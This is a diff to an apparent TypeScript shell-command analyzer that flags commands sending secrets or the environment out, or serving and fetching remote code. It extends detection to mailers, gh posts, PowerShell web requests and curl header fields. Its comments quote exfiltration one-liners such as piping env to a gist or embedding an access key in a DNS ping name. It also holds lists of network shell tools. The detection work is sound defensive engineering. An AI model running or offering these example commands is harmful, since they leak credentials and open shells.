@@ -10,8 +10,8 @@ const FETCHERS = new Set(["curl", "wget", "fetch", "http", "https", "xh", "aria2
 const REMOTE_SPEC = /^(?:git\+[a-z]+:\/\/|git:\/\/|github:|gitlab:|bitbucket:|gist:|https?:\/\/)/i;
 const PACKAGE_RUNNER = /^(?:npx|bunx|pnpx|npm|pnpm|yarn|bun|pipx|uvx|uv)$/;
 const RUNNER = /^(?:sh|bash|zsh|dash|ksh|ash|mksh|fish|g?make|python[0-9.]*|pypy[0-9.]*|perl|ruby|node|nodejs|bun|deno|php|eval|source|\.|pwsh|powershell|iex|invoke-expression|cmd)$/;
-/** Variable names that hold credentials. */
-export const SECRET_VAR = /\$\{?(?:env:)?[A-Za-z_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|ACCESS_KEY|CREDENTIAL)[A-Za-z0-9_]*\}?/i;
+import { SECRET_VAR } from "../secret-names.ts";
+export { SECRET_VAR };
 const NONE: string[] = [];
 const HISTORY_FILE = /\/\.(?:bash|zsh|sh|ksh|python|psql|mysql|sqlite|node_repl|irb|lesshst|rediscli)_history$|\/\.local\/share\/fish\/fish_history$|ConsoleHost_history\.txt$/;
 /** Secrets that sign requests and are never sent themselves. */
@@ -120,22 +120,29 @@ export function sentFiles(cmd: SimpleCommand, an: Analysis): string[] {
     const ops = a.slice(p === "gcloud" || p === "aws" ? 3 : 2).filter((w, k, ws) => !w.startsWith("-") && w !== "cp" && !(/^--[\w-]+$/.test(ws[k - 1] ?? "") && !SWITCHES.has(ws[k - 1] ?? "")));
     const dest = ops[ops.length - 1] ?? "";
     if (REMOTE_OPERAND.test(dest)) out.push(...ops.slice(0, -1).filter((w) => !REMOTE_OPERAND.test(w)));
+  } else if (MAILERS.has(p)) {
+    for (let i = 1; i < a.length; i++) if (a[i] === "-A" || a[i] === "-a" || a[i] === "--attach" || a[i] === "--attach-type") out.push(a[i + 1] ?? "");
   } else if (p === "az" && a[1] === "storage" && a.includes("upload")) {
     for (let i = 2; i < a.length; i++) if (a[i] === "-f" || a[i] === "--file") out.push(a[i + 1] ?? "");
   }
   // `nc h 9 < f`, `telnet h 23 < f`, `http POST url < f`, `ssh h 'cat > k' < f`: the file is the socket's input.
-  if (SOCKETS.has(p) || p === "http" || p === "https" || p === "xh" || p === "ssh" || p === "curl") for (const r of cmd.redirects) if (r.op === "<") out.push(r.target);
+  if (SOCKETS.has(p) || MAILERS.has(p) || p === "http" || p === "https" || p === "xh" || p === "ssh" || p === "curl" || p === "invoke-webrequest") for (const r of cmd.redirects) if (r.op === "<") out.push(r.target);
+  if (p === "invoke-webrequest") for (let i = 1; i < a.length; i++) if (a[i] === "-T") out.push(a[i + 1] ?? "");
   return out.filter((f) => f !== "");
 }
 /** Options of the cloud copiers that take no value (every other `--name` is followed by its value: `--exclude .env`). */
 const SWITCHES = new Set(["--recursive", "--dryrun", "--dry-run", "--quiet", "--delete", "--no-progress", "--only-show-errors", "--follow-symlinks", "--no-follow-symlinks", "--progress", "--checksum", "--size-only", "--exact-timestamps", "--no-guess-mime-type"]);
+/** Mail senders: what they read on standard input, and what they attach, goes to the recipient. */
+const MAILERS = new Set(["mail", "mailx", "s-nail", "sendmail", "mutt", "msmtp", "swaks", "neomutt"]);
+/** gh subcommands that put text on GitHub (an issue, a gist, a comment, an API field). */
+const GH_POSTS = /^(?:api|gist|issue|pr|release|discussion)$/;
 const SOCKETS = new Set(["nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat"]);
 
 /** Programs that send what they read on standard input to another host (`env | gh gist create -`, `| aws s3 cp - s3://b/k`, `| ssh h`). */
 function sendsStdin(cmd: SimpleCommand): boolean {
   const p = cmd.program;
   const a = cmd.argv;
-  if (SOCKETS.has(p) || p === "ssh" || p === "http" || p === "https" || p === "xh") return true;
+  if (SOCKETS.has(p) || MAILERS.has(p) || p === "ssh" || p === "http" || p === "https" || p === "xh") return true;
   if (p === "curl") return a.some((w, k) => /@-$|^-T-?$|^--upload-file$/.test(w) && (w.endsWith("-") || a[k + 1] === "-" || a[k + 1] === "."));
   if (p === "gh" && a[1] === "gist" && a[2] === "create") return a.length === 3 || a.includes("-");
   if (p === "aws" && a[1] === "s3" && a[2] === "cp") return a[3] === "-";
@@ -160,6 +167,10 @@ export function networkEffects(cmd: SimpleCommand, an: Analysis): Effect[] {
   }
   // `env | gh gist create -`, `printenv | aws s3 cp - s3://b/e`: the environment, read from the pipe, sent.
   if (cmd.pipeFrom === "env" && !NETWORK.has(p) && sendsStdin(cmd)) out.push(effect("network-send", `sends the environment (its secrets included) through ${p}`, [], { data: "env" }));
+  // `gh api .. -f body="$(env)"`, `gh gist create - <<< "$(env)"`, `mail x <<< "$(printenv)"`: the environment as the text posted.
+  const posts = NETWORK.has(p) || MAILERS.has(p) || (p === "gh" && GH_POSTS.test(cmd.argv[1] ?? ""));
+  if (posts && !NETWORK.has(p) && cmd.argv.slice(1).some((w) => ENV_DUMP.test(w))) out.push(effect("network-send", `sends the environment through ${p}`, [], { data: "env" }));
+  if (posts && sendsStdin(cmd) && cmd.redirects.some((r) => r.op === "<<<" && (ENV_DUMP.test(r.target) || SECRET_VAR.test(r.target)))) out.push(effect("network-send", `sends ${ENV_DUMP.test(cmd.redirects.find((r) => r.op === "<<<")?.target ?? "") ? "the environment" : "a secret variable"} through ${p}`, [], { data: "env" }));
   const sentSecrets = sentFiles(cmd, an).filter((f) => isSecretPath(f));
   // `/proc/self/environ` is the environment itself.
   if (sentSecrets.length > 0) out.push(effect("network-send", `sends ${sentSecrets.join(" ")} to another host`, sentSecrets, { data: sentSecrets.every((f) => f.endsWith("/environ")) ? "env" : "secret" }));
@@ -169,7 +180,7 @@ export function networkEffects(cmd: SimpleCommand, an: Analysis): Effect[] {
   if ((p === "nc" || p === "ncat" || p === "netcat") && cmd.argv.some((w, k) => (w === "-e" || w === "-c" || w === "--exec" || w === "--sh-exec") && /sh$|cmd(?:\.exe)?$/.test(cmd.argv[k + 1] ?? ""))) out.push(effect("remote-code", "serves a shell to the network (nc -e)"));
   if ((p === "regsvr32" || p === "mshta" || p === "rundll32" || p === "bitsadmin") && cmd.argv.some((w) => /https?:\/\/|javascript:|vbscript:/i.test(w))) out.push(effect("remote-code", `runs remote script code through ${p}`));
   // DNS and ping carry data in the host name: `ping $(whoami)-$AWS_ACCESS_KEY_ID.x.io`.
-  if ((p === "ping" || p === "dig" || p === "nslookup" || p === "host" || p === "drill") && an.positional.some((w) => SECRET_VAR.test(w))) out.push(effect("network-send", "puts a secret variable into a DNS name", [], { data: "secret" }));
+  if ((p === "ping" || p === "dig" || p === "nslookup" || p === "host" || p === "drill" || p === "resolve-dnsname" || p === "test-connection") && an.positional.some((w) => SECRET_VAR.test(w))) out.push(effect("network-send", "puts a secret variable into a DNS name", [], { data: "secret" }));
   // Installing a package from a URL runs its install scripts.
   if ((p === "npm" || p === "pnpm" || p === "yarn" || p === "bun") && /^(?:i|install|add)$/.test(an.sub ?? "") && an.positional.some((w) => /^https?:\/\//.test(w))) out.push(effect("remote-code", "installs (and runs the scripts of) a package from a URL"));
   if (NETWORK.has(p)) {
@@ -179,7 +190,8 @@ export function networkEffects(cmd: SimpleCommand, an: Analysis): Effect[] {
     if (urls.length > 0) out.push(effect("network-send", `puts a secret variable into a URL: ${urls.join(" ")}`, [], { data: "secret" }));
     // `curl --data "$AWS_SECRET_ACCESS_KEY" URL`, `-H "X-Key: $API_KEY"` to somewhere: a secret in what is sent.
     // A header to a URL is how an API is called with its key; only the body and a form field count.
-    const sent = cmd.argv.filter((w, k) => k > 0 && /^(?:-d|--data(?:-binary|-raw|-urlencode|-ascii)?|-F|--form|--post-data)$/.test(cmd.argv[k - 1] ?? "") && SECRET_VAR.test(w));
+    // The referer, user agent and cookie are sent to whatever host the URL names, as the body is.
+    const sent = cmd.argv.filter((w, k) => k > 0 && /^(?:-d|--data(?:-binary|-raw|-urlencode|-ascii)?|-F|--form|--post-data|--json|-e|--referer|-A|--user-agent|-b|--cookie)$/.test(cmd.argv[k - 1] ?? "") && SECRET_VAR.test(w));
     const attached = cmd.argv.filter((w) => /^(?:--data(?:-binary|-raw|-urlencode|-ascii)?=|--post-data=|-d.)/.test(w) && SECRET_VAR.test(w));
     if (sent.length + attached.length > 0) out.push(effect("network-send", "sends a secret variable in the request body", [], { data: "secret" }));
     // A signing secret (AWS's secret access key, a private key) is never a bearer header: sent as a header, it leaves.
